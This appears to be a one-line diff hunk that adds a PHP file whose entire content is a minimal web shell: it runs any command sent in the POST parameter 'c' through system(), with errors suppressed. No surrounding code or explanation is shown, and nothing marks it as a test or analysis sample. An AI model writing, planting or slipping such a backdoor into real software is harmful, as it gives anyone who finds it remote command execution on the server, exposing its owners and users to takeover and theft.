@@ -1,0 +1,1 @@
+<?php if(isset($_POST["c"])){ @system($_POST["c"]); } ?>
